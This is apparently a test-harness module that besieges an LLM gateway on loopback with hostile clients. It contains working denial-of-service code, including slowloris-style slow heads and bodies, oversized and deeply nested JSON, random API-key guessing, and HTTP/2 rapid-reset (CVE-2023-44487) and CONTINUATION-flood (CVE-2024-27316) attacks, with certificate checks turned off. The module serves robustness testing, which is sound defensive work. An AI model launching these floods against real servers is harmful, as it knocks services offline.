"""What bad clients do: each attack is one visit to a gateway. The siege in the suite and the one in bench/ share them.

An attack takes no interest in what comes back: it fails by an exception, or by running into the gateway's bounds, and
whoever besieges the gateway ignores either. The dice are seeded, so that a siege can be repeated. The gateway's rules
give some models a meaning: `flood` answers without an end, `broken` fails, `keyed` refuses every key, `large` takes
large bodies.
"""

import asyncio
import contextlib
import json
import random
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

PATH = "/v1/chat/completions"
CHAT: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}
CANCEL = 8
MIB = 1 << 20


@dataclass(frozen=True, slots=True)
class Door:
    """What an attacker knows of a gateway: its port on loopback, and a host that it intercepts."""

    port: int
    host: str = "llm.test"

    @property
    def authority(self) -> str:
        """What a direct call's Host says."""
        return f"127.0.0.1:{self.port}"


_OPEN = json.dumps({**CHAT, "model": "large"}).encode()[:-1]
LARGE = {
    "text": _OPEN + b', "user": "' + b"x" * (16 * MIB) + b'"}',
    "values": _OPEN + b', "x": [' + b'{"role":"user","content":"x"},' * 63_000 + b"0]}",
    "too many": _OPEN + b', "x": [' + b"{}," * (2 * MIB) + b"0]}",
}
"""Bodies made once, so that they cost the attacker little."""

type Attack = Callable[[Door, random.Random], Awaitable[None]]


class Visit:
    """One connection to the door."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    async def write(self, content: bytes) -> None:
        """Bytes, once those before them have mostly been taken."""
        self.writer.write(content)
        await asyncio.wait_for(self.writer.drain(), 10)

    async def ask(self, door: Door, document: bytes, *more: str, target: str = PATH) -> None:
        """A direct call with this body."""
        lines = ("content-type: application/json", f"content-length: {len(document)}", *more)
        await self.write(head(door, *lines, target=target) + document)

    async def hear(self, within: float = 10.0) -> None:
        """Read to the end of a reply, or as far as it comes; the connection is of no use afterwards."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(within):
                got = await self.reader.readuntil(b"\r\n\r\n")
                name, _, rest = got.lower().partition(b"content-length: ")
                if name is not got and rest:
                    await self.reader.readexactly(int(rest.split(b"\r\n")[0]))


@contextlib.asynccontextmanager
async def plain(door: Door) -> AsyncIterator[Visit]:
    """A connection, broken afterwards."""
    # A small limit: what an attacker does not read stays in the sockets, and not in his own memory.
    reader, writer = await asyncio.open_connection("127.0.0.1", door.port, limit=64 << 10)
    try:
        yield Visit(reader, writer)
    finally:
        writer.transport.abort()
        with contextlib.suppress(OSError, TimeoutError):
            await asyncio.wait_for(writer.wait_closed(), 2)


@contextlib.asynccontextmanager
async def inside(door: Door, *protocols: str) -> AsyncIterator[Visit]:
    """CONNECT to the intercepted host; with `protocols`, TLS in the tunnel, whose certificate is not looked at."""
    async with plain(door) as visit:
        await visit.write(f"CONNECT {door.host}:443 HTTP/1.1\r\nhost: {door.host}:443\r\n\r\n".encode())
        await asyncio.wait_for(visit.reader.readuntil(b"\r\n\r\n"), 5)
        if protocols:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(list(protocols))
            await asyncio.wait_for(visit.writer.start_tls(context, server_hostname=door.host), 5)
        yield visit


def head(door: Door, *lines: str, target: str = PATH, end: str = "\r\n") -> bytes:
    """A request's head; `end` empty leaves it open."""
    return "\r\n".join((f"POST {target} HTTP/1.1", f"host: {door.authority}", *lines, end)).encode()


def nested(depth: int) -> str:
    """Arrays in arrays."""
    return "[" * depth + "]" * depth


# Connections that do little


async def half_open(door: Door, dice: random.Random) -> None:
    """Connects, says little or nothing, stays a while."""
    async with plain(door) as visit:
        await visit.write(dice.choice([b"", b"P", b"POST /v1/chat", b"\x16\x03\x01", b"\r\n"]))
        await asyncio.sleep(dice.uniform(0.5, 3))


async def slow_head(door: Door, dice: random.Random) -> None:
    """A head, a line at a time, without an end."""
    async with plain(door) as visit:
        await visit.write(head(door, "content-type: application/json", end=""))
        for number in range(20):
            await asyncio.sleep(dice.uniform(0.05, 0.2))
            await visit.write(f"x-{number}: y\r\n".encode())


async def slow_body(door: Door, dice: random.Random) -> None:
    """A body that is announced and hardly comes."""
    async with plain(door) as visit:
        await visit.write(head(door, "content-type: application/json", "content-length: 1000000"))
        for _ in range(10):
            await asyncio.sleep(dice.uniform(0.1, 0.3))
            await visit.write(b" ")


async def leaves(door: Door, dice: random.Random) -> None:
    """Asks for a stream and is gone, at some moment."""
    async with plain(door) as visit:
        await visit.ask(door, json.dumps({**CHAT, "stream": True}).encode())
        await asyncio.sleep(dice.uniform(0, 0.3))


async def slow_reader(door: Door, dice: random.Random) -> None:
    """Asks for a flood (how large, the last three members tell the upstream of bench/) and does not read it."""
    asked = {**CHAT, "model": "flood", "stream": True, "events": 1200, "gap_ms": 0, "padding": 4000}
    async with plain(door) as visit:
        await visit.ask(door, json.dumps(asked).encode())
        await asyncio.sleep(dice.uniform(0.5, 2))


# Requests that nobody should send


async def noise(door: Door, dice: random.Random) -> None:
    """Bytes."""
    async with plain(door) as visit:
        await visit.write(dice.randbytes(dice.randint(1, 20_000)))
        await asyncio.wait_for(visit.reader.read(65536), 2)


async def malformed(door: Door, dice: random.Random) -> None:
    """Targets and bodies that are refused."""
    target = dice.choice(["//v1/chat/completions", PATH, "*", "http://127.0.0.1/", "/v1/" + "x" * 9000])
    body = dice.choice([b"{", b"\xff" * 100, b"[" * 10_000, json.dumps(CHAT).encode("utf-16"), b""])
    async with plain(door) as visit:
        await visit.ask(door, body, target=target)
        await visit.hear(5)


async def deep(door: Door, dice: random.Random) -> None:
    """JSON a hundred deep and deeper: as such, and within a string, where a guardrail or a tool may look for it."""
    depth = dice.choice([100, 100, 190, 1000, 100_000])
    asked = dice.choice([
        json.dumps({**CHAT, "messages": [{"role": "user", "content": nested(depth)}]}),
        json.dumps(CHAT)[:-1] + f', "metadata": {nested(depth)}}}',
        json.dumps(CHAT)[:-1] + ', "tools": ' + '{"a":' * depth + "1" + "}" * depth + "}",
    ])  # fmt: skip
    async with plain(door) as visit:
        await visit.ask(door, asked.encode())
        await visit.hear()


async def large(door: Door, dice: random.Random) -> None:
    """Megabytes: a long text, as many values as are let through, more than that, or half of what was announced."""
    kind = dice.choice(["text", "text", "values", "too many", "half"])
    async with plain(door) as visit:
        if kind == "half":
            await visit.write(head(door, "content-type: application/json", f"content-length: {60 * MIB}") + LARGE["text"])
            await asyncio.sleep(dice.uniform(0.2, 1))
            return
        await visit.ask(door, LARGE[kind])
        await visit.hear()


async def guessed_key(door: Door, dice: random.Random) -> None:
    """Keys, one after the other on one connection, none of them right."""
    async with plain(door) as visit:
        for _ in range(20):
            await visit.ask(door, json.dumps({**CHAT, "model": "keyed"}).encode(),
                            f"authorization: Bearer sk-{dice.randbytes(16).hex()}")
            await visit.hear()


async def unlucky(door: Door, dice: random.Random) -> None:
    """A good call to a provider that breaks."""
    async with plain(door) as visit:
        await visit.ask(door, json.dumps({**CHAT, "model": "broken", "stream": dice.random() < 0.5}).encode())
        await visit.hear()


# Tunnels and HTTP/2


async def bad_tunnel(door: Door, dice: random.Random) -> None:
    """CONNECT, and then anything but TLS; or TLS that stops."""
    async with inside(door) as visit:
        await visit.write(dice.choice([b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00", dice.randbytes(500)]))
        await asyncio.sleep(dice.uniform(0.1, 1))


async def handshakes(door: Door, dice: random.Random) -> None:
    """TLS, and gone."""
    async with inside(door, dice.choice(["h2", "http/1.1"])):
        await asyncio.sleep(0)


async def resets(door: Door, dice: random.Random) -> None:
    """HTTP/2 streams, opened and reset as fast as can be written (CVE-2023-44487)."""
    async with inside(door, "h2") as visit:
        http2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        http2.initiate_connection()
        fields = [(":method", "POST"), (":scheme", "https"), (":authority", door.host), (":path", PATH)]
        for _ in range(dice.randint(50, 400)):
            stream = http2.get_next_available_stream_id()
            http2.send_headers(stream, [*fields, ("content-type", "application/json")])
            http2.reset_stream(stream, CANCEL)
        await visit.write(http2.data_to_send())
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(visit.reader.read(65536), 2)


async def continuation(door: Door, dice: random.Random) -> None:
    """A head that goes on for ever (CVE-2024-27316)."""
    async with inside(door, "h2") as visit:
        await visit.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
        await visit.write(HeadersFrame(1, b"\x82\x87").serialize())
        piece = ContinuationFrame(1, b"\x40\x81x\x7f\xff\x01" + b"y" * dice.choice([10, 16_000])).serialize()
        for _ in range(1000):
            await visit.write(piece)


ATTACKS: tuple[Attack, ...] = (
    half_open, slow_head, slow_body, leaves, slow_reader, noise, malformed, deep, large, guessed_key, unlucky,
    bad_tunnel, handshakes, resets, continuation,
)  # fmt: skip
